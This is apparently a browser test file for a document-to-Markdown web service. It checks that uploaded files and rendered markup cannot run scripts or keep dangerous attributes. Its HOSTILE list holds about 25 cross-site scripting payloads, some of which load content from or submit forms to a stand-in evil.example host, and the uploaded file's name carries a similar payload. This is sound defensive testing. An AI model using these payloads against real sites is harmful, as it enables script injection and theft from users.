"""Documents that want to run something in the browser of whoever looks at them."""

from __future__ import annotations

from pathlib import Path

from playwright.sync_api import Page, expect

from tests.browser.conftest import drop, visit
from tests.support.api_working import InTestWorker

HOSTILE = [
    "<script>document.title = 'taken'</script>",
    "<script src=//evil.example/a.js></script>",
    "<img src=x onerror=\"document.title = 'taken'\">",
    "<img src=//evil.example/p.png><img srcset='//evil.example/q.png 2x'>",
    "<a href=\"javascript:document.title='taken'\">click</a>",
    "[click](javascript:document.title='taken')",
    "<a href=\" java\tscript:document.title='taken'\">click</a>",
    "<a href='data:text/html,<script>1</script>'>click</a>",
    "<svg onload=\"document.title='taken'\"><script>document.title='taken'</script></svg>",
    "<svg><animate onbegin=\"document.title='taken'\" attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=document.title='taken'></style>",
    "<style>body { display: none } @import '//evil.example/a.css';</style>",
    "<p style=\"position: fixed; inset: 0; background: url(//evil.example/c.png)\">over all</p>",
    "<iframe src=\"javascript:document.title='taken'\"></iframe>",
    "<iframe srcdoc=\"<script>parent.document.title='taken'</script>\"></iframe>",
    "<object data=//evil.example/o></object><embed src=//evil.example/e>",
    "<form action=//evil.example/><input name=key><button>Send</button></form>",
    "<form id=pages><input name=children></form><img name=cookie><a id=viewer>clobbered</a>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/l.css>",
    "<details open ontoggle=\"document.title='taken'\">x</details>",
    "<body onload=\"document.title='taken'\"><video onerror=document.title='taken' src=x></video>",
    "<template><script>document.title='taken'</script></template>",
    "</div></li></ol></section><script>document.title='taken'</script>",
    "{{constructor.constructor('document.title=1')()}} ${document.title='taken'}",
]  # fmt: skip
RUNS_NOTHING = "script, style, svg, iframe, object, embed, form, link, meta, base, template, video"

HANDLERS = """() => [...document.querySelectorAll("#page-list *")].flatMap((element) =>
  element.getAttributeNames().filter((name) => name.startsWith("on")))"""
"""Lists attributes that listen to events."""


def test_a_hostile_document_is_text_and_nothing_else(
    page: Page, worker: InTestWorker, tmp_path: Path, complaints: list[str]
) -> None:
    name = "<img src=x onerror=document.title='taken'>.txt"
    document = tmp_path / name
    document.write_text("\n".join(HOSTILE))
    visit(page)
    with worker.running():
        drop(page, document)
        expect(page.locator(".row").first).to_contain_text("Done")
    page.locator(".row").first.get_by_role("link").first.click()
    title = page.title()

    for number in range(1, len(HOSTILE) + 1):
        page.locator("#page-number").fill(str(number))
        page.locator("#page-number").press("Enter")
        expect(page.locator(f'[data-number="{number}"] .text > *').first).to_be_attached()
    page.locator("#viewer").get_by_text("Source", exact=True).click()
    expect(page.locator(f'[data-number="{len(HOSTILE)}"] .source')).to_contain_text("constructor")

    assert page.title() == title == "Ilios: documents to Markdown"
    assert page.locator("#page-list").locator(RUNS_NOTHING).count() == 0
    assert (
        page.locator(
            "#page-list [style], #page-list [id], #page-list [name], #page-list [srcset]"
        ).count()
        == 0
    )
    assert page.evaluate(HANDLERS) == []
    hrefs = page.locator("#page-list .text a").evaluate_all("links => links.map((a) => a.protocol)")
    assert {"javascript:", "data:"}.isdisjoint(hrefs)
    expect(page.locator("#viewer-title")).to_have_text(name)
    assert complaints == []


REBUILT = """async (markups) => {
  const { parsed, rebuilt } = await import("/assets/site/page/markup.js");
  const place = document.createElement("div");
  document.body.append(place);
  place.append(...markups.flatMap((markup) => rebuilt(parsed(markup).body, (src, alt) => alt)));
  return [...place.querySelectorAll("*")].map((element) =>
    [element.localName, Object.fromEntries([...element.attributes].map((a) => [a.name, a.value]))]);
}"""
"""Puts onto the page what it makes of markup; returns elements and attributes that came of it."""


def test_the_page_trusts_no_markup_even_of_the_service(page: Page, complaints: list[str]) -> None:
    page.goto("/")

    made = page.evaluate(REBUILT, HOSTILE)

    assert {name for name, _ in made} <= {"a", "b", "div", "li", "p", "span", "table"}
    attributes = {attribute for _, found in made for attribute in found}
    assert attributes <= {"aria-level", "class", "href", "rel", "role", "tabindex", "target"}
    links = [found["href"] for _, found in made if "href" in found]
    assert [link for link in links if not link.startswith(("http", "mailto"))] == []
    assert page.title() == "Ilios: documents to Markdown"
    assert [one for one in complaints if one.startswith("foreign")] == []


def test_nothing_becomes_markup_in_passing(page: Page) -> None:
    page.goto("/")

    refused = page.evaluate(
        """() => {
          const element = document.createElement("div");
          try { element.innerHTML = "<b>x</b>"; } catch (error) { return error.name; }
          return null;
        }"""
    )

    assert refused == "TypeError"
